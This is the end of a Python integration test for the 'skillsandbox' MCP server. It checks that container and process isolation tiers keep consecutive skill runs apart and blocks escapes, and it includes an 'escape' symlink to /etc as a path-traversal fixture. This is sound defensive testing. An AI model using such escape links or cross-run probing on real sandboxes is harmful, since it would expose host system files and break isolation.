    runs in a row, on each tier, share nothing: what the first leaves behind (files
    in /tmp and its scratch, a detached process, a listening abstract socket) the
    second does not see, nor the server's own environment; and the first cannot
    reach the stage held ready for the second (signal, control socket, memory)."""
    mark = f"warm{uuid.uuid4().hex[:10]}"
    # Readable by the process tier's sandbox user (uid 65534 for a root invoker).
    skills = Path(tempfile.mkdtemp(prefix="skillsandbox-warm-"))
    skills.chmod(0o755)
    try:
        await warm_runs(binary, base, env, skills, mark)
    finally:
        shutil.rmtree(skills, ignore_errors=True)


async def warm_runs(binary: str, base: Path, env: dict[str, str], skills: Path,
                    mark: str) -> None:
    for tier in ("container", "process"):
        d = skills / f"warm-{tier}"
        d.mkdir(parents=True)
        (d / "warm.py").write_text(WARM_SCRIPT)
        (d / "skillsandbox.yaml").write_text(
            f"skill:\n  name: warm-{tier}\n  version: \"1.0.0\"\n"
            f"  description: \"leaves things behind, or looks for them\"\n"
            f"isolation:\n  tier: {tier}\nentrypoint:\n  command: python3\n"
            f"  args: [warm.py]\n  workdir: /skill\n"
        )
    params = StdioServerParameters(
        command=binary,
        args=["serve", "--skills-dir", str(skills), "--session", "mcp-python-warm"],
        env={**env, "SKILLSANDBOX_WARM_TEST_MARK": mark},
        cwd=str(base),
    )

    def warm_trace(s: dict) -> bool:
        try:
            with open(s["trace_path"]) as f:
                events = json.load(f)["events"]
        except (OSError, KeyError, TypeError, ValueError):
            return False
        return any("ahead of the launch" in e.get("detail", "") for e in events)

    async with stdio_client(params) as (read, write):
        async with ClientSession(read, write) as session:
            await session.initialize()
            for tier in ("container", "process"):
                tag = f"{mark}-{tier}"
                res = await session.call_tool(
                    "run_skill", {"skill": f"warm-{tier}", "args": ["leave", tag]})
                a = res.structured_content or {}
                out = a.get("stdout", "")
                check(f"warm {tier}: the first run leaves a process behind (as far as it can)",
                      not res.is_error and "LEFT" in out and "process" in out
                      and (tier == "process" or "socket" in out), a)
                check(f"warm {tier}: the first run's stage was spawned ahead (trace)",
                      warm_trace(a), a.get("trace_path"))
                check(f"warm {tier}: the first run cannot signal, open or read a stage "
                      "held ready for another run",
                      "HITS []" in out
                      # The process tier sees the host's processes: the stage held
                      # ready for the next run was there to attack.
                      and (tier == "container" or "STAGES SEEN 0 " not in out), out)
                res = await session.call_tool(
                    "run_skill", {"skill": f"warm-{tier}", "args": ["check", tag]})
                b = res.structured_content or {}
                check(f"warm {tier}: the next warm run finds no file, process, socket or "
                      "server environment of the first",
                      not res.is_error and "FOUND []" in b.get("stdout", "")
                      and warm_trace(b), b)
                check(f"warm {tier}: nothing of the first run is left on the host",
                      await wait_for(lambda: not marker_pids(tag), 5.0), marker_pids(tag))


async def main() -> int:
    binary = os.environ.get("SKILLSANDBOX_BIN") or shutil.which("skillsandbox")
    if not binary:
        print("FAIL - set SKILLSANDBOX_BIN to the skillsandbox binary", flush=True)
        return 1
    version = os.environ.get("SKILLSANDBOX_VERSION")
    with tempfile.TemporaryDirectory(prefix="skillsandbox-mcp-") as tmp:
        base = Path(tmp).resolve()
        skills = base / "skills"
        shutil.copytree(HERE / "skills", skills)
        (skills / "escape").symlink_to("/etc")
        state = base / "state"
        config = base / "config"
        config.mkdir()
        policy = base / "policy.yaml"
        policy.write_text(POLICY)
        env = {
            "XDG_STATE_HOME": str(state),
            # An empty config dir: the host's own policy.yaml must not apply.
            "XDG_CONFIG_HOME": str(config),
            "SKILLSANDBOX_SESSION_DB": str(state / "sessions.db"),
            "SKILLSANDBOX_AUDIT_LOG": str(state / "audit.jsonl"),
        }
        SESSION_ENV.update(binary=binary, env={**os.environ, **env}, policy=policy)
        params = StdioServerParameters(
            command=binary,
            args=[
                "serve",
                "--skills-dir",
                str(skills),
                "--session",
                SESSION,
                "--policy",
                str(policy),
                "--ceiling-write",
                str(base / "out"),
            ],
            env=env,
            cwd=str(base),
        )
        try:
            with anyio.fail_after(300):
                async with stdio_client(params) as (read, write):
                    async with ClientSession(read, write) as session:
                        await scenario(session, skills, version)
                await discover_probe(params)
                await max_runs_probe(binary, base, env)
                await approval_probe(binary, base, env)
                await metrics_probe(binary, base, env)
                await warm_probe(binary, base, env)
        except Exception:  # noqa: BLE001 - report, then fail
            traceback.print_exc()
            check("the scenario ran to the end", False, traceback.format_exc())
    print(f"{'FAILED' if failures else 'PASSED'}: {len(failures)} failure(s)", flush=True)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(anyio.run(main))
